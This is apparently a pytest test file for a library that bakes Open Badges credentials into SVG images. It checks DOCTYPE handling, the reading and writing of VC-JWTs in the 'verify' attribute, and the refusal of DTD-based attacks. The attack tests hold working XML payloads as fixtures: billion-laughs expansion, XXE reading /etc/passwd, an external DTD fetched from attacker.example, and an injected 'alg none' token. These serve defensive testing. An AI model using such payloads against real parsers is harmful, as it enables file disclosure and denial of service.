"""SVG baking (OB 3.0 §5.3.2): the SVG 1.1 DOCTYPE accepted and never read, every
DTD-borne attack refused, and a VC-JWT in the ``verify`` attribute read and written."""

from __future__ import annotations

import datetime as dt
import json
import socket
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from defusedxml.ElementTree import fromstring

from microcred.credentials.baking import bake, extract
from microcred.credentials.baking.svg import NAMESPACE
from microcred.credentials.errors import BakingError
from microcred.credentials.formats import detect
from microcred.credentials.keys import KeyPair
from microcred.credentials.vc_jose import sign_jwt
from microcred.credentials.verify import verify

from ..verify.test_verify import SIGNED

NOW = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
CREDENTIAL = json.dumps(SIGNED, ensure_ascii=False)
FIXTURE = (Path(__file__).parent / "svg11_doctype.svg").read_bytes()
TAG = f"{{{NAMESPACE}}}credential"

XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
SVG11 = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
ROOT = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="https://purl.imsglobal.org/ob/v3p0">'
CIRCLE = '<circle cx="60" cy="60" r="50"/>'


def _svg(prolog: str, inside: str = f"<o:credential>{escape(CREDENTIAL)}</o:credential>") -> str:
    return f"{prolog}{ROOT}{inside}{CIRCLE}</svg>"


def _jwt() -> str:
    key = KeyPair.generate()
    document = {k: v for k, v in SIGNED.items() if k != "proof"}
    return sign_jwt(document | {"issuer": {**document["issuer"], "id": key.did_key}}, key)


TOKEN = _jwt()


def _refused(image: bytes, code: str) -> None:
    with pytest.raises(BakingError) as caught:
        extract(image)
    assert caught.value.code == code
    report = verify(image, now=NOW)
    assert (report.verified, report.format, report.checks[0].code) == (False, "svg", code)


# -- the DOCTYPE design tools write is accepted, and its DTD never read ----------------------


@pytest.mark.parametrize(
    "prolog",
    [
        XML + SVG11,
        SVG11,
        "\ufeff" + XML + SVG11,
        XML + '<!DOCTYPE svg SYSTEM "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        XML + "<!DOCTYPE svg>",
        XML + '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 20010904//EN"\n'
        '  "http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd">',
    ],
    ids=["svg11-public", "svg11-no-xml-declaration", "svg11-bom", "system-id-only", "name-only",
         "svg10-public"],
)  # fmt: skip
def test_plain_doctype_is_accepted(prolog: str) -> None:
    image = _svg(prolog).encode("utf-8")
    assert detect(image) == "svg"
    assert extract(image) == CREDENTIAL
    report = verify(image, now=NOW)
    assert (report.verified, report.format) == (True, "svg")


def test_doctype_first_and_svg_beyond_the_sniffed_head_is_still_an_svg() -> None:
    image = _svg(SVG11 + f"<!-- {'x' * 4000} -->").encode()
    assert detect(image) == "svg"
    assert extract(image) == CREDENTIAL


def test_design_tool_fixture_bakes_without_its_doctype() -> None:
    assert b"<!DOCTYPE svg PUBLIC" in FIXTURE
    baked = bake(FIXTURE, CREDENTIAL)
    assert b"<!DOCTYPE" not in baked  # re-serialised: the DOCTYPE is dropped
    assert b"<circle" in baked
    assert b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"' in baked
    assert extract(baked) == CREDENTIAL
    assert verify(baked, now=NOW).verified


def test_public_id_without_system_literal_is_malformed_xml() -> None:
    # XML 1.0 [75]: PUBLIC needs a system literal too; browsers forgive it, expat does not.
    image = _svg('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN">').encode()
    with pytest.raises(BakingError, match="malformed SVG") as caught:
        extract(image)
    assert caught.value.code == "baking_error"


# -- DTD-borne attacks -----------------------------------------------------------------------

LAUGHS = "".join(
    f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10 if i else "lol"}">' for i in range(10)
)
ATTLIST = '<!ATTLIST o:credential verify CDATA "eyJhbGciOiJub25lIn0.e30.c2ln">'


@pytest.mark.parametrize(
    "svg",
    [
        _svg(f"{XML}<!DOCTYPE svg [{LAUGHS}]>", "<o:credential>&l9;</o:credential>"),
        _svg(f"{XML}<!DOCTYPE svg [<!ENTITY % l0 'lol'>{LAUGHS}]>", "<o:credential/>"),
        _svg(f'{XML}<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
             "<o:credential>&xxe;</o:credential>"),
        _svg(f'{XML}{SVG11[:-2]} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
             "<o:credential>&xxe;</o:credential>"),
        _svg(f'{XML}<!DOCTYPE svg [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd">%ext;]>'),
        _svg(f'{XML}<!DOCTYPE svg [<!ENTITY logo SYSTEM "file:///etc/passwd" NDATA png>]>'),
        _svg(f"{XML}{SVG11[:-2]} [{ATTLIST}]>", "<o:credential/>"),
        _svg(f'{XML}<!DOCTYPE svg [<!-- ]> --><!ENTITY x "boom">]>',
             "<o:credential>&x;</o:credential>"),
        _svg(f"{XML}<!DOCTYPE svg []>"),
        _svg(XML + SVG11, "<o:credential>&secret;</o:credential>"),
        (f'{XML}{SVG11[:-2]} [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>'
         '<svg xmlns="&ns_svg;"><circle r="1"/></svg>'),
    ],
    ids=["billion-laughs", "parameter-entities", "xxe-file", "xxe-behind-svg11-public",
         "external-dtd-parameter-entity", "unparsed-entity", "attlist-injects-verify",
         "subset-hides-end-in-comment", "empty-internal-subset", "entity-only-the-dtd-declares",
         "design-tool-namespace-entities"],
)  # fmt: skip
def test_dtd_attacks_are_refused(svg: str) -> None:
    _refused(svg.encode(), "unsafe_svg")


def test_external_dtd_is_never_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A DOCTYPE naming a DTD we wrote: had it been read, its entity and ATTLIST default
    would show; nothing is opened and no connection is made."""
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(f'<!ENTITY leak "LEAKED">{ATTLIST}<!ATTLIST svg data-x CDATA "LEAKED">')

    def no_network(*args: Any) -> None:
        raise AssertionError("the parser tried to connect")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    for system_id in (dtd.as_uri(), "http://127.0.0.1:9/evil.dtd", "file:///etc/passwd"):
        image = _svg(f'{XML}<!DOCTYPE svg SYSTEM "{system_id}">').encode()
        assert extract(image) == CREDENTIAL
        baked = bake(image, CREDENTIAL)
        assert b"LEAKED" not in baked
        assert b"root:" not in baked
        with_reference = _svg(
            f'<!DOCTYPE svg SYSTEM "{system_id}">', "<o:credential>&leak;</o:credential>"
        )
        _refused(with_reference.encode(), "unsafe_svg")


def test_doctype_inside_a_comment_is_only_a_comment() -> None:
    image = _svg(f'{XML}<!-- <!DOCTYPE svg [<!ENTITY x "boom">]> -->{SVG11}').encode()
    assert extract(image) == CREDENTIAL
    assert b"boom" not in bake(image, CREDENTIAL)


def test_doctype_inside_cdata_is_only_text() -> None:
    trick = '<!DOCTYPE svg [<!ENTITY x "boom">]>&x;'
    image = _svg(XML + SVG11, f"<o:credential><![CDATA[{trick}]]></o:credential>").encode()
    assert extract(image) == trick  # literal, nothing declared or expanded
    report = verify(image, now=NOW)
    assert (report.verified, report.checks[0].code) == (False, "unreadable")


# -- VC-JWT in the verify attribute (§5.3.2.1) -----------------------------------------------


def test_spec_example_form_with_verify_attribute_verifies() -> None:
    image = (
        f'{XML}<svg xmlns="http://www.w3.org/2000/svg"\n'
        '  xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" viewBox="0 0 512 512">\n'
        f'  <openbadges:credential verify="{TOKEN}"></openbadges:credential>\n'
        "  <!-- rest-of-image -->\n</svg>"
    ).encode()
    assert extract(image) == TOKEN
    report = verify(image, now=NOW)
    assert (report.verified, report.format) == (True, "svg+jwt"), report.to_dict()


@pytest.mark.parametrize("image", [FIXTURE, _svg(XML, "").encode()], ids=["svg11-doctype", "plain"])
def test_jwt_is_baked_into_the_verify_attribute_and_verifies(image: bytes) -> None:
    baked = bake(image, TOKEN)
    credentials = list(fromstring(baked).iter(TAG))
    assert len(credentials) == 1
    assert credentials[0].get("verify") == TOKEN
    assert not credentials[0].text
    assert extract(baked) == TOKEN
    report = verify(baked, now=NOW)
    assert (report.verified, report.format) == (True, "svg+jwt"), report.to_dict()


def test_json_is_baked_as_text_without_verify() -> None:
    credential = next(fromstring(bake(FIXTURE, CREDENTIAL)).iter(TAG))
    assert credential.get("verify") is None
    assert credential.text == CREDENTIAL


def test_rebaking_jwt_over_json_leaves_one_credential() -> None:
    baked = bake(bake(FIXTURE, CREDENTIAL), TOKEN)
    assert len(list(fromstring(baked).iter(TAG))) == 1
    assert extract(baked) == TOKEN


@pytest.mark.parametrize(
    "inside",
    [
        f'<o:credential verify="{TOKEN}"/>',
        f'<o:credential verify=" {TOKEN}\n">\n  </o:credential>',
        f'<o:credential verify="{TOKEN}">{TOKEN}</o:credential>',
    ],
    ids=["empty-element", "whitespace", "same-text-and-attribute"],
)
def test_verify_attribute_is_read(inside: str) -> None:
    assert extract(_svg(XML, inside).encode()) == TOKEN


@pytest.mark.parametrize(
    ("inside", "code"),
    [
        (f'<o:credential verify="{TOKEN}">{escape(CREDENTIAL)}</o:credential>',
         "ambiguous_credential"),
        (f'<o:credential verify="{TOKEN}"><o:x>{_jwt()}</o:x></o:credential>',
         "ambiguous_credential"),
        ('<o:credential verify=""> </o:credential>', "no_credential"),
    ],
    ids=["attribute-and-different-text", "attribute-and-text-in-a-child", "both-empty"],
)  # fmt: skip
def test_verify_attribute_conflicts(inside: str, code: str) -> None:
    _refused(_svg(XML, inside).encode(), code)
